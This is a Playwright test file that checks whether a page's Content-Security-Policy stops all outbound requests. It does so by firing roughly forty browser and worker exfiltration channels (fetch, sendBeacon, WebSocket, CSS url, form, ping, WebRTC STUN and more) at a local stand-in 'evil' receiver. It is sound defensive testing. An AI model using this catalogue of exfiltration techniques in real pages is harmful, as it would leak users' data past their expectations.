// Promise P1: no byte leaves the tab. A hostile script tries every way out it knows, on the page and in the
// engine's own worker, while a server counts what arrives. The control runs the same script without the policy.
import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { createSocket } from "node:dgram";
import { test as base, expect, type Browser, type Page } from "@playwright/test";
import { PAGE, SAVED, serve } from "./atoll.ts";

type Way = (evil: string) => unknown;

/** Ways out of a page. */
const PAGE_WAYS: Record<string, Way> = {
  fetch: (evil) => fetch(`${evil}fetch`, { mode: "no-cors" }),
  keepalive: (evil) => fetch(`${evil}keepalive`, { mode: "no-cors", keepalive: true }),
  xhr: (evil) => {
    const x = new XMLHttpRequest();
    x.open("GET", `${evil}xhr`);
    x.send();
  },
  websocket: (evil) => void new WebSocket(`${evil.replace("http", "ws")}websocket`),
  events: (evil) => void new EventSource(`${evil}events`),
  beacon: (evil) => void navigator.sendBeacon(`${evil}beacon`, "x"),
  image: (evil) => void (new Image().src = `${evil}image`),
  audio: (evil) => void new Audio(`${evil}audio`).load(),
  font: (evil) => new FontFace("x", `url(${evil}font)`).load(),
  "css url": (evil) => void (document.body.style.backgroundImage = `url(${evil}css%20url)`),
  stylesheet: (evil) => add("link", { rel: "stylesheet", href: `${evil}stylesheet` }),
  prefetch: (evil) => add("link", { rel: "prefetch", href: `${evil}prefetch` }),
  preload: (evil) => add("link", { rel: "preload", as: "image", href: `${evil}preload` }),
  modulepreload: (evil) => add("link", { rel: "modulepreload", href: `${evil}modulepreload` }),
  icon: (evil) => add("link", { rel: "icon", href: `${evil}icon` }),
  manifest: (evil) => add("link", { rel: "manifest", href: `${evil}manifest` }),
  script: (evil) => add("script", { src: `${evil}script` }),
  import: (evil) => import(`${evil}import`),
  frame: (evil) => add("iframe", { src: `${evil}frame` }),
  object: (evil) => add("object", { data: `${evil}object` }),
  video: (evil) => add("video", { poster: `${evil}video` }),
  "svg image": (evil) => {
    const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
    image.setAttribute("href", `${evil}svg%20image`);
    document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg")).append(image);
  },
  form: (evil) => (add("form", { action: `${evil}form`, method: "post" }) as HTMLFormElement).submit(),
  "form in a new tab": (evil) =>
    (add("form", { action: `${evil}form%20in%20a%20new%20tab`, target: "_blank" }) as HTMLFormElement).submit(),
  ping: (evil) => add("a", { href: "#x", ping: `${evil}ping` }).click(),
  link: (evil) => add("a", { href: `${evil}link` }).click(),
  "link in a new tab": (evil) => add("a", { href: `${evil}link%20in%20a%20new%20tab`, target: "_blank" }).click(),
  open: (evil) => void window.open(`${evil}open`),
  navigate: (evil) => void (location.href = `${evil}navigate`),
  refresh: (evil) => add("meta", { "http-equiv": "refresh", content: `0;url=${evil}refresh` }),
  "worker by address": (evil) => void new Worker(`${evil}worker%20by%20address`),
  "rtc stun": async (evil) => {
    const rtc = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(evil).host}` }] });
    rtc.createDataChannel("x");
    await rtc.setLocalDescription(await rtc.createOffer());
  },
};

/** Ways that leave the page: each is tried on a page of its own. */
const LEAVES = new Set(["form", "link", "navigate", "refresh"]);

/** Ways out of a worker. */
const WORKER_WAYS: Record<string, Way> = {
  fetch: (evil) => fetch(`${evil}fetch`, { mode: "no-cors" }),
  xhr: (evil) => {
    const x = new XMLHttpRequest();
    x.open("GET", `${evil}xhr`);
    x.send();
  },
  websocket: (evil) => void new WebSocket(`${evil.replace("http", "ws")}websocket`),
  events: (evil) => void new EventSource(`${evil}events`),
  import: (evil) => import(`${evil}import`),
  importScripts: (evil) => (globalThis as unknown as { importScripts(url: string): void }).importScripts(`${evil}importScripts`),
  font: (evil) => new FontFace("x", `url(${evil}font)`).load(),
};

/** Ways that do not get out without the policy either: another origin's worker is refused, and a browser without a
 * window asks for no icon and no manifest. Tried all the same. */
const SILENT_WITHOUT_POLICY = new Set(["worker by address", "manifest", "icon"]);

declare function add(tag: string, attributes: Record<string, string>): HTMLElement;

/** What arrived, by the name of the way; over TCP or UDP, on one port. */
class Receiver {
  readonly arrived = new Set<string>();
  readonly #http: Server = createServer((request, response) => {
    this.arrived.add(decodeURIComponent((request.url ?? "/").slice(1).replace(/\?.*/, "")));
    response.writeHead(204).end();
  });
  readonly #udp = createSocket("udp4");

  async start(): Promise<string> {
    this.#http.on("upgrade", (request, socket) => {
      this.arrived.add((request.url ?? "/").slice(1));
      socket.destroy();
    });
    await new Promise<void>((done) => this.#http.listen(0, "127.0.0.1", done));
    const { port } = this.#http.address() as AddressInfo;
    this.#udp.on("message", () => this.arrived.add("rtc stun"));
    await new Promise<void>((done) => this.#udp.bind(port, "127.0.0.1", done));
    return `http://127.0.0.1:${port}/`;
  }

  stop(): void {
    this.#http.close();
    this.#http.closeAllConnections();
    this.#udp.close();
  }
}

const test = base.extend<{ receiver: Receiver }>({
  receiver: async ({}, use) => {
    const receiver = new Receiver();
    await use(receiver);
    receiver.stop();
  },
});

/** A page with its engine's worker running. */
async function open(browser: Browser, address: string): Promise<Page> {
  const page = await browser.newPage();
  await page.addInitScript(() => {
    Object.assign(globalThis, {
      add: (tag: string, attributes: Record<string, string>) => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        return document.body.appendChild(element);
      },
    });
  });
  await page.goto(address);
  await expect(page.getByTestId("version"), "the engine is there, and its unpacker gone").toHaveText(/\d/);
  return page;
}

/** Tries every way out of the page at this address, and of its worker. */
async function tryAll(browser: Browser, address: string, evil: string): Promise<void> {
  const page = await open(browser, address);
  for (const [name, way] of Object.entries(PAGE_WAYS)) if (!LEAVES.has(name)) await attempt(page.evaluate(way, evil));
  const worker = page.workers()[0]!;
  for (const way of Object.values(WORKER_WAYS)) await attempt(worker.evaluate(way, `${evil}worker:`));
  await page.waitForTimeout(1000);
  await page.close();
  for (const name of LEAVES) {
    const page = await open(browser, address);
    await attempt(page.evaluate(PAGE_WAYS[name]!, evil));
    await page.waitForTimeout(300);
    await page.close();
  }
}

/** A way that is refused may throw, hang, or take its page along. */
async function attempt(way: Promise<unknown>): Promise<void> {
  await Promise.race([way.catch(() => undefined), new Promise((done) => setTimeout(done, 500))]);
}

const ALL = [...Object.keys(PAGE_WAYS), ...Object.keys(WORKER_WAYS).map((name) => `worker:${name}`)];

test("served with its headers, nothing gets out", async ({ browser, receiver }) => {
  test.setTimeout(120_000);
  const evil = await receiver.start();
  const server = await serve();
  await tryAll(browser, server.url, evil);
  server.stop();
  expect([...receiver.arrived]).toEqual([]);
});

test("opened from disk, no background request gets out", async ({ browser, receiver }) => {
  test.setTimeout(120_000);
  const evil = await receiver.start();
  await tryAll(browser, SAVED, evil);
  // What a meta element cannot forbid: leaving the page, in sight of its user, and WebRTC. The page says so.
  const known = ["link", "link in a new tab", "open", "navigate", "refresh", "rtc stun"];
  expect([...receiver.arrived].filter((way) => !known.includes(way))).toEqual([]);
});

test("control: without the policy they get out", async ({ browser, receiver }) => {
  test.setTimeout(120_000);
  const evil = await receiver.start();
  const bare = readFileSync(PAGE, "utf8").replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
  const host = createServer((_, response) => response.writeHead(200, { "Content-Type": "text/html" }).end(bare));
  await new Promise<void>((done) => host.listen(0, "127.0.0.1", done));
  await tryAll(browser, `http://127.0.0.1:${(host.address() as AddressInfo).port}/`, evil);
  host.close();
  host.closeAllConnections();
  const expected = ALL.filter((way) => !SILENT_WITHOUT_POLICY.has(way));
  expect(expected.filter((way) => !receiver.arrived.has(way))).toEqual([]);
});
